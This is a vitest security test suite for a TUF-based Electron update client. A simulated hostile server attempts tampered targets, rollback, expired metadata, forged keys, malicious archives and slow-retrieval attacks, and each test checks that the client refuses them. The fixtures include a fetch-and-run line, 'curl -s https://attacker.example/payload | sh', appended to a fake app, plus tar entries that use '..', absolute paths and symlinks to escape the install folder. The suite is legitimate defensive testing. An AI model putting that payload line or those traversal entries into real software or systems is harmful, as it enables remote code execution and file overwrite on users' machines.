import { appendFile, readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createPatch, CUSTOM_SCHEMA, digestBuffer, PATCH_MAGIC, scanBundle, tarToBuffer, type TargetCustom } from '@tufup/bundle';
import { UpdateClient, UpdateError, type CoreOptions, type StagedUpdate } from '@tufup/electron-client/core';
import { rotateKey } from '@tufup/repo-tools';
import { attackerKey, Forge, putTarget, targetFilePath, type SignedJson } from './helpers/forge.js';
import { APP, ARCH, BUILD, leftovers, listFiles, PLATFORM, readTree, Repo, writeBundle, type Tree } from './helpers/fixture.js';
import { Summary } from './helpers/summary.js';
import { rawTarGz, type RawEntry } from './helpers/tar.js';

const summary = new Summary('Attacks: the real client core against a hostile server (each must end in a typed error or the signed update, never in attacker bytes)');
const PAST = new Date(Date.now() - 86_400_000);
/** Every UpdateError code that means "refused, nothing done". */
const TYPED_FAILURES = ['NETWORK', 'TIMEOUT', 'VERIFICATION', 'PATCH', 'DISK', 'CANCELLED', 'CONFIG', 'NO_UPDATE', 'INTERNAL'];

/** What one update attempt came to. */
interface Attempt {
  /** `staged`, `up-to-date`, or the UpdateError code. */
  outcome: string;
  staged?: StagedUpdate;
  message?: string;
}

async function tryUpdate(client: UpdateClient, signal?: AbortSignal): Promise<Attempt> {
  try {
    const info = await client.checkForUpdates();
    if (info === undefined) return { outcome: 'up-to-date' };
    const staged = await client.downloadUpdate(info, signal ? { signal } : {});
    return { outcome: 'staged', staged };
  } catch (error) {
    return error instanceof UpdateError ? { outcome: error.code, message: error.message } : { outcome: `untyped ${String(error)}` };
  }
}

function version(bytes: Buffer): number {
  return (JSON.parse(bytes.toString('utf8')) as { signed: { version: number } }).signed.version;
}

/** An attacker's archive with valid tufup custom metadata, claiming to be `version`. */
function evilArchive(version: string, entries: readonly RawEntry[] = [{ path: 'app', content: '#!/bin/sh\necho evil\n', mode: 0o755 }]): { path: string; gz: Buffer; custom: TargetCustom } {
  const { tar, gz } = rawTarGz(entries);
  const custom: TargetCustom = {
    tufup: { schema: CUSTOM_SCHEMA, kind: 'archive', name: APP, version, platform: PLATFORM, arch: ARCH, tar: digestBuffer(tar), required: true },
  };
  return { path: `${BUILD}/${APP}-${version}.tar.gz`, gz, custom };
}

async function cachedVersion(options: CoreOptions, role: string): Promise<number> {
  return version(await readFile(join(options.cacheDir, 'metadata', `${role}.json`)));
}

describe('attacks on the update channel', () => {
  let repo: Repo;
  /** timestamp.json and its snapshot as they were before 1.1.0 was published: valid, signed, older. */
  let oldTimestamp: Buffer;
  let oldSnapshot: Buffer;
  let oldTargetsVersion: number;

  beforeAll(async () => {
    repo = await Repo.create();
    await repo.publish('1.0.0');
    oldTimestamp = await repo.file('metadata/timestamp.json');
    const snapshotVersion = (JSON.parse(oldTimestamp.toString()) as { signed: { meta: Record<string, { version: number }> } }).signed.meta['snapshot.json']!.version;
    oldSnapshot = await repo.file(`metadata/${snapshotVersion}.snapshot.json`);
    oldTargetsVersion = (JSON.parse(oldSnapshot.toString()) as { signed: { meta: Record<string, { version: number }> } }).signed.meta['targets.json']!.version;
    await repo.publish('1.1.0');
  });
  afterEach(() => repo.server.behave());
  afterAll(async () => {
    summary.print();
    await repo.cleanup();
  });

  /** A client on 1.0.0 with the install folder's tree taken before the attack. */
  async function victim(extra: Partial<CoreOptions> = {}): Promise<{ client: UpdateClient; options: CoreOptions; before: Tree }> {
    const { client, options } = await repo.client('1.0.0', extra);
    return { client, options, before: await readTree(options.installDir) };
  }

  /**
   * Records the row, then checks the promise of every attack: a typed error, nothing staged, the install
   * untouched, and (for a verification failure) no unverified bytes kept. `codeBug` marks the cases whose
   * code is wrong today (see the test of that bug): they still must be refused safely.
   */
  async function expectRefused(name: string, expected: string, v: { options: CoreOptions; before: Tree }, attempt: Attempt, codeBug = false): Promise<void> {
    const left = await leftovers(v.options);
    const unchanged = JSON.stringify(await readTree(v.options.installDir)) === JSON.stringify(v.before);
    // A network failure may keep a `.partial` to resume (it is verified before use); a refused file may not.
    const partials = left.targets.filter((f) => f.includes('.verified-') || (expected === 'VERIFICATION' && f.includes('.partial')));
    summary.record({
      case: name,
      expected: `${expected}; nothing staged; install unchanged`,
      observed: `${attempt.outcome}${attempt.outcome !== expected && attempt.message !== undefined ? ` ("${attempt.message.slice(0, 90)}")` : ''}; ${left.staged === undefined && left.stagedFiles.length === 0 ? 'nothing staged' : `STAGED ${left.stagedFiles.join(',')}`}; ${unchanged ? 'install unchanged' : 'INSTALL CHANGED'}${partials.length > 0 ? `; kept ${partials.join(',')}` : ''}`,
    });
    if (codeBug) expect(TYPED_FAILURES).toContain(attempt.outcome);
    else expect(attempt.outcome).toBe(expected);
    expect(left.staged).toBeUndefined();
    expect(left.stagedFiles).toEqual([]);
    expect(partials).toEqual([]);
    expect(unchanged).toBe(true);
  }

  /** Records and checks an attack the client survives by fetching the signed update another way. */
  async function expectSignedUpdate(name: string, expected: string, attempt: Attempt, strategy: 'patch' | 'full'): Promise<void> {
    const staged = attempt.staged;
    const genuine = staged !== undefined && JSON.stringify(await readTree(staged.stagedDir)) === JSON.stringify(await readTree(repo.bundleDir(staged.version)));
    summary.record({
      case: name,
      expected,
      observed: staged === undefined ? attempt.outcome : `staged ${staged.version} via ${staged.strategy}${genuine ? ', identical to the published bundle' : ', NOT THE PUBLISHED BUNDLE'}`,
    });
    expect(attempt.outcome).toBe('staged');
    expect(staged?.strategy).toBe(strategy);
    expect(genuine).toBe(true);
  }

  /** The real files of the 1.1.0 targets, by kind. */
  async function realTarget(kind: 'patch' | 'tar.gz'): Promise<Buffer> {
    const names = await listFiles(join(repo.repoDir, 'targets', BUILD));
    const name = names.find((n) => n.endsWith(`${APP}-1.1.0.${kind}`));
    return readFile(join(repo.repoDir, 'targets', BUILD, name!));
  }

  /** A complete, runnable app bundle of the attacker's, claiming to be 1.1.0: close to it, so patches to it are small. */
  async function evilBundleTar(): Promise<Buffer> {
    const dir = await repo.folder('evil');
    await writeBundle(dir, '1.1.0');
    await appendFile(join(dir, 'app'), 'curl -s https://attacker.example/payload | sh\n');
    return tarToBuffer(dir, await scanBundle(dir));
  }

  describe('arbitrary software', () => {
    it('refuses a target replaced on the server by other bytes of the same length', async () => {
      const v = await victim();
      for (const kind of ['patch', 'tar.gz'] as const) {
        const real = await realTarget(kind);
        const evil = Buffer.from(real);
        evil.fill(0x41, 100, 200);
        repo.server.on({ pathEnd: `${APP}-1.1.0.${kind}`, does: { kind: 'replace', body: evil } });
      }
      await expectRefused('target replaced, same length', 'VERIFICATION', v, await tryUpdate(v.client));
    });

    it('refuses a target replaced on the server by a working app bundle of another length', async () => {
      const v = await victim();
      const evil = gzipSync(await evilBundleTar());
      expect(evil.length).not.toBe((await realTarget('tar.gz')).length);
      repo.server.on({ pathEnd: `${APP}-1.1.0.tar.gz`, does: { kind: 'replace', body: evil } });
      repo.server.on({ pathEnd: `${APP}-1.1.0.patch`, does: { kind: 'replace', body: evil } });
      await expectRefused('target replaced, other length', 'VERIFICATION', v, await tryUpdate(v.client));
    });

    it('refuses a replaced patch and installs the signed archive instead', async () => {
      const v = await victim();
      const base = await tarToBuffer(repo.bundleDir('1.0.0'), await scanBundle(repo.bundleDir('1.0.0')));
      const evilPatch = await createPatch(base, await evilBundleTar());
      repo.server.on({ pathEnd: `${APP}-1.1.0.patch`, does: { kind: 'replace', body: evilPatch } });
      const attempt = await tryUpdate(v.client);
      expect(repo.server.requestsFor(`${APP}-1.1.0.patch`).at(-1)?.misbehaviour).toBe('replace');
      await expectSignedUpdate('patch replaced on the server', 'patch refused by its signed hash; the signed archive staged', attempt, 'full');
    });

    it('refuses a signed patch whose output does not match the signed tar hash, and installs the signed archive', async () => {
      const v = await victim();
      const base = await tarToBuffer(repo.bundleDir('1.0.0'), await scanBundle(repo.bundleDir('1.0.0')));
      const signedTar = await tarToBuffer(repo.bundleDir('1.1.0'), await scanBundle(repo.bundleDir('1.1.0')));
      const honest = await createPatch(base, await evilBundleTar());
      // The header claims the signed tar, the payload makes the attacker's: only the output hash tells.
      const headerLength = honest.readUInt32LE(12);
      const raw = honest.subarray(16, 16 + headerLength);
      const header = JSON.parse((honest.readUInt16LE(10) & 1 ? gunzipSync(raw) : raw).toString()) as Record<string, unknown>;
      header.target = digestBuffer(signedTar);
      const json = Buffer.from(JSON.stringify(header));
      const fixed = Buffer.from(honest.subarray(0, 16));
      fixed.writeUInt16LE(0, 10); // a plain JSON header
      fixed.writeUInt32LE(json.length, 12);
      const lying = Buffer.concat([fixed, json, honest.subarray(16 + headerLength)]);
      expect(lying.subarray(0, 8).equals(PATCH_MAGIC)).toBe(true);

      // Signed by the real targets key: a build machine that made a wrong patch, or a stolen targets key.
      const forge = await Forge.open(repo.repoDir, repo.keysDir);
      const path = `${BUILD}/${APP}-1.1.0.patch`;
      const custom = forge.state.targets.signed.targets[path]!.custom;
      repo.server.replace(await forge.forge({ targets: { edit: (t) => putTarget(t, path, lying, custom) } }));
      repo.server.replace(new Map([[targetFilePath(path, lying), lying]]));
      const attempt = await tryUpdate(v.client);
      // TUF accepted the patch (it is signed): it was the tar check after patching that refused it.
      expect(repo.server.requestsFor(targetFilePath(path, lying)).length).toBe(1);
      await expectSignedUpdate('signed patch, output not the signed tar', 'patch output refused (tar hash); the signed archive staged', attempt, 'full');
    });
  });

  describe('rollback', () => {
    it('refuses an older timestamp once a newer one was seen', async () => {
      const v = await victim();
      expect((await tryUpdate(v.client)).outcome).toBe('staged');
      const seen = await cachedVersion(v.options, 'timestamp');
      repo.server.replace(new Map([['metadata/timestamp.json', oldTimestamp]]));
      const before = await readTree(v.options.installDir);
      const attempt = await tryUpdate(new UpdateClient({ ...v.options }));
      // The staged 1.1.0 of the first, honest check may stay; what matters is the cache did not go back.
      summary.record({ case: 'rollback: older timestamp', expected: 'VERIFICATION; cached timestamp kept', observed: `${attempt.outcome}; cached timestamp v${await cachedVersion(v.options, 'timestamp')} (was v${seen})` });
      expect(attempt.outcome).toBe('VERIFICATION');
      expect(await cachedVersion(v.options, 'timestamp')).toBe(seen);
      expect(await readTree(v.options.installDir)).toEqual(before);
    });

    it('refuses a new timestamp that points to an older snapshot (stolen timestamp key)', async () => {
      const v = await victim();
      expect((await v.client.checkForUpdates())?.version).toBe('1.1.0');
      const forge = await Forge.open(repo.repoDir, repo.keysDir);
      const oldMeta = (JSON.parse(oldTimestamp.toString()) as { signed: SignedJson }).signed.meta!;
      repo.server.replace(await forge.forge({ timestamp: { edit: (t) => (t.meta = oldMeta) } }));
      await expectRefused('rollback: older snapshot', 'VERIFICATION', v, await tryUpdate(v.client));
    });

    it('refuses a new snapshot that points to older targets (stolen timestamp and snapshot keys)', async () => {
      const v = await victim();
      expect((await v.client.checkForUpdates())?.version).toBe('1.1.0');
      const forge = await Forge.open(repo.repoDir, repo.keysDir);
      const oldMeta = (JSON.parse(oldSnapshot.toString()) as { signed: SignedJson }).signed.meta!;
      expect(oldTargetsVersion).toBeLessThan(forge.state.targets.signed.version);
      repo.server.replace(await forge.forge({ snapshot: { edit: (s) => (s.meta = oldMeta) } }));
      await expectRefused('rollback: older targets', 'VERIFICATION', v, await tryUpdate(v.client), true);
    });
  });

  describe('indefinite freeze', () => {
    for (const role of ['timestamp', 'snapshot', 'targets', 'root'] as const) {
      it(`refuses an expired ${role}, even signed by the real key`, async () => {
        const v = await victim();
        const forge = await Forge.open(repo.repoDir, repo.keysDir);
        repo.server.replace(await forge.forge({ [role]: { expires: PAST } }));
        await expectRefused(`freeze: expired ${role}`, 'VERIFICATION', v, await tryUpdate(v.client), role === 'snapshot' || role === 'targets');
      });
    }
  });

  it('refuses a snapshot that does not match the targets served (mix and match)', async () => {
    const v = await victim();
    const forge = await Forge.open(repo.repoDir, repo.keysDir);
    const current = forge.state.targets.signed.version;
    const older = await repo.file(`metadata/${current - 1}.targets.json`);
    repo.server.replace(new Map([[`metadata/${current}.targets.json`, older]]));
    await expectRefused('mix and match: older targets under the current name', 'VERIFICATION', v, await tryUpdate(v.client), true);
  });

  // tuf-js wraps snapshot and targets failures in a message-only RuntimeError, and every check starts with
  // a 404 from the root-rotation probe (`<N+1>.root.json`): that stale 404 once made refused metadata look
  // like a network failure (NETWORK, "try again later" in a UI).
  it('reports forged or expired snapshot and targets metadata as VERIFICATION, not as a network failure', async () => {
    const v = await victim();
    const forge = await Forge.open(repo.repoDir, repo.keysDir);
    repo.server.replace(await forge.forge({ targets: { expires: PAST } }));
    const attempt = await tryUpdate(v.client);
    summary.record({ case: 'error code of a refused snapshot/targets', expected: 'VERIFICATION', observed: `${attempt.outcome} ("${attempt.message ?? ''}")`.slice(0, 140) });
    expect(attempt.outcome).toBe('VERIFICATION');
  });

  describe('wrong keys', () => {
    it('refuses targets signed by a key root does not list, even with real snapshot and timestamp keys', async () => {
      const v = await victim();
      const evil = evilArchive('2.0.0');
      const forge = await Forge.open(repo.repoDir, repo.keysDir);
      repo.server.replace(await forge.forge({ targets: { signers: [attackerKey()], edit: (t) => putTarget(t, evil.path, evil.gz, evil.custom) } }));
      repo.server.replace(new Map([[targetFilePath(evil.path, evil.gz), evil.gz]]));
      await expectRefused('wrong key: targets signed by an unknown key', 'VERIFICATION', v, await tryUpdate(v.client), true);
    });

    it('refuses targets with one signature when root requires two, and accepts them with both', async () => {
      const two = await Repo.create({ thresholds: { targets: 2 } });
      try {
        await two.publish('1.0.0');
        const evil = evilArchive('2.0.0');
        const forge = await Forge.open(two.repoDir, two.keysDir);
        const [first, second] = await forge.realSigners('targets');
        expect(second).toBeDefined();
        const edit = (t: SignedJson): void => putTarget(t, evil.path, evil.gz, evil.custom);
        const { client, options } = await two.client('1.0.0');
        const before = await readTree(options.installDir);
        two.server.replace(await forge.forge({ targets: { signers: [first!], edit } }));
        two.server.replace(new Map([[targetFilePath(evil.path, evil.gz), evil.gz]]));
        await expectRefused('wrong keys: 1 of 2 required targets signatures', 'VERIFICATION', { options, before }, await tryUpdate(client), true);
        // The control: the same metadata with both signatures passes TUF, so the count is what refused it.
        two.server.behave();
        two.server.replace(await forge.forge({ targets: { signers: [first!, second!], edit } }));
        two.server.replace(new Map([[targetFilePath(evil.path, evil.gz), evil.gz]]));
        expect((await (await two.client('1.0.0')).client.checkForUpdates())?.version).toBe('2.0.0');
      } finally {
        await two.cleanup();
      }
    });
  });

  describe('endless data', () => {
    it('stops reading metadata that goes on past its size limit', async () => {
      const v = await victim();
      repo.server.on({ pathEnd: '/metadata/timestamp.json', does: { kind: 'endless' } });
      await expectRefused('endless data: timestamp.json', 'VERIFICATION', v, await tryUpdate(v.client));
    });

    it('stops reading a target that goes on past its signed length and keeps nothing of it', async () => {
      const v = await victim();
      repo.server.on({ pathEnd: `${APP}-1.1.0.patch`, does: { kind: 'endless' } });
      repo.server.on({ pathEnd: `${APP}-1.1.0.tar.gz`, does: { kind: 'endless' } });
      const attempt = await tryUpdate(v.client);
      expect(repo.server.requestsFor(`${APP}-1.1.0.tar.gz`).at(-1)?.misbehaviour).toBe('endless');
      const cached = await listFiles(join(v.options.cacheDir, 'targets'));
      const sizes = await Promise.all(cached.map(async (f) => (await stat(join(v.options.cacheDir, 'targets', f))).size));
      expect(sizes.every((size) => size <= (1 << 20))).toBe(true);
      await expectRefused('endless data: targets', 'VERIFICATION', v, attempt);
    });
  });

  describe('root rotation', () => {
    it('follows a root the old root signed, and stages updates signed by the new keys', async () => {
      const rotated = await Repo.create();
      try {
        await rotated.publish('1.0.0');
        const { client, options } = await rotated.client('1.0.0');
        expect(await client.checkForUpdates()).toBeUndefined();
        await rotateKey({ repoDir: rotated.repoDir, keysDir: rotated.keysDir, role: 'root' });
        await rotateKey({ repoDir: rotated.repoDir, keysDir: rotated.keysDir, role: 'targets' });
        await rotated.publish('1.1.0');
        const attempt = await tryUpdate(client);
        const rootVersion = await cachedVersion(options, 'root');
        summary.record({ case: 'root rotation (root and targets keys)', expected: 'follows the new root; stages 1.1.0', observed: `root v${rootVersion}; ${attempt.outcome} ${attempt.staged?.version ?? ''}` });
        expect(attempt.outcome).toBe('staged');
        expect(attempt.staged?.version).toBe('1.1.0');
        expect(rootVersion).toBe(3);
      } finally {
        await rotated.cleanup();
      }
    });

    it('recovers from a stolen timestamp key that fast-forwarded clients once the publisher rotates that key', async () => {
      const stolen = await Repo.create();
      try {
        await stolen.publish('1.0.0');
        const { client, options } = await stolen.client('1.0.0');
        // With the stolen key, a timestamp far in the future: valid, so the client keeps it...
        const forge = await Forge.open(stolen.repoDir, stolen.keysDir);
        stolen.server.replace(await forge.forge({ timestamp: { edit: (t) => (t.version = 1_000_000) } }));
        expect(await client.checkForUpdates()).toBeUndefined();
        stolen.server.behave();
        // ...and from then on refuses the publisher's real timestamps as rollbacks.
        await stolen.publish('1.1.0');
        const frozen = await tryUpdate(client);
        await rotateKey({ repoDir: stolen.repoDir, keysDir: stolen.keysDir, role: 'timestamp' });
        const after = await tryUpdate(client);
        summary.record({
          case: 'stolen timestamp key: fast-forward, then key rotated',
          expected: 'VERIFICATION until rotation; then 1.1.0 staged',
          observed: `before rotation ${frozen.outcome}; after ${after.outcome} ${after.staged?.version ?? ''}`,
        });
        expect(frozen.outcome).toBe('VERIFICATION');
        expect(after.staged?.version).toBe('1.1.0');
        expect(await cachedVersion(options, 'timestamp')).toBeLessThan(1_000_000);
      } finally {
        await stolen.cleanup();
      }
    });

    it("refuses an attacker's root that the trusted root did not sign", async () => {
      const v = await victim();
      const key = attackerKey();
      const forge = await Forge.open(repo.repoDir, repo.keysDir);
      const evil = evilArchive('9.0.0');
      const files = await forge.forge({
        root: {
          signers: [key],
          edit: (root) => {
            root.keys = { [key.keyid]: key.publicKey.toJSON() };
            root.roles = Object.fromEntries(['root', 'targets', 'snapshot', 'timestamp'].map((r) => [r, { keyids: [key.keyid], threshold: 1 }]));
          },
        },
        targets: { signers: [key], edit: (t) => putTarget(t, evil.path, evil.gz, evil.custom) },
        snapshot: { signers: [key] },
        timestamp: { signers: [key] },
      });
      repo.server.replace(files);
      await expectRefused("root rotation: attacker's root", 'VERIFICATION', v, await tryUpdate(v.client));
      expect(await cachedVersion(v.options, 'root')).toBe(1);
    });
  });

  describe('malicious archive', () => {
    const escapes: Record<string, RawEntry[]> = {
      'a path with ..': [
        { path: 'app', content: '#!/bin/sh\necho evil\n', mode: 0o755 },
        { path: '../../escaped', content: 'pwned' },
      ],
      'an absolute path': [
        { path: 'app', content: '#!/bin/sh\necho evil\n', mode: 0o755 },
        { path: '/tmp/tufup-e2e-escaped', content: 'pwned' },
      ],
      'a symlink out of the folder': [
        { path: 'app', content: '#!/bin/sh\necho evil\n', mode: 0o755 },
        { path: 'lib', type: '2', linkname: '../..' },
        { path: 'lib/escaped', content: 'pwned' },
      ],
    };
    for (const [what, entries] of Object.entries(escapes)) {
      it(`refuses at extraction a signed archive with ${what}`, async () => {
        const v = await victim();
        const { path, gz, custom } = evilArchive('2.0.0', entries);
        // Signed with the real targets key: TUF passes it, extraction is the last line of defence.
        const forge = await Forge.open(repo.repoDir, repo.keysDir);
        repo.server.replace(await forge.forge({ targets: { edit: (t) => putTarget(t, path, gz, custom) } }));
        repo.server.replace(new Map([[targetFilePath(path, gz), gz]]));
        const attempt = await tryUpdate(v.client);
        // TUF accepted it (signed with the real key) and the client downloaded it: extraction refused it.
        expect(repo.server.requestsFor(targetFilePath(path, gz)).length).toBe(1);
        const escaped = await listFiles(v.options.cacheDir).then((files) => files.filter((f) => f.endsWith('escaped')));
        expect(escaped).toEqual([]);
        expect(await stat('/tmp/tufup-e2e-escaped').then(() => true, () => false)).toBe(false);
        await expectRefused(`malicious archive: ${what}`, 'VERIFICATION', v, attempt);
      });
    }
  });

  describe('slow retrieval', () => {
    it('cuts a server that stops sending with TIMEOUT', async () => {
      const v = await victim({ stallTimeoutMs: 300, retries: 1 });
      // Both routes: a patch that cannot be had costs the full archive, not the update.
      for (const kind of ['patch', 'tar.gz']) repo.server.on({ pathEnd: `${APP}-1.1.0.${kind}`, does: { kind: 'stall', afterBytes: 10 } });
      await expectRefused('slow retrieval: server stops sending', 'TIMEOUT', v, await tryUpdate(v.client));
    });

    // A server that sends a few bytes just often enough never trips the stall timeout; the minimum average
    // rate (minBytesPerSecond over a window of stallTimeoutMs) is what cuts it.
    it('cuts a server that trickles bytes too slowly to ever finish with TIMEOUT', async () => {
      const v = await victim({ stallTimeoutMs: 1_000, retries: 0 });
      for (const kind of ['patch', 'tar.gz']) repo.server.on({ pathEnd: `${APP}-1.1.0.${kind}`, does: { kind: 'trickle', bytes: 4, everyMs: 250 } });
      const patchSize = (await realTarget('patch')).length;
      const controller = new AbortController();
      // At 16 bytes/s the patch alone needs patchSize / 16 seconds; a rate check would stop it long before.
      const limit = 10_000;
      const download = tryUpdate(v.client, controller.signal);
      const attempt = await Promise.race([
        download,
        sleep(limit).then((): Attempt => ({ outcome: `still downloading after ${limit / 1000} s (16 B/s; the ${patchSize}-byte patch would take ${Math.round(patchSize / 16)} s)` })),
      ]);
      // Cancel it, as a user would, and let it settle before looking at what it left.
      controller.abort();
      await download;
      await expectRefused('slow retrieval: server trickles 16 B/s', 'TIMEOUT', v, attempt);
    });
  });
});

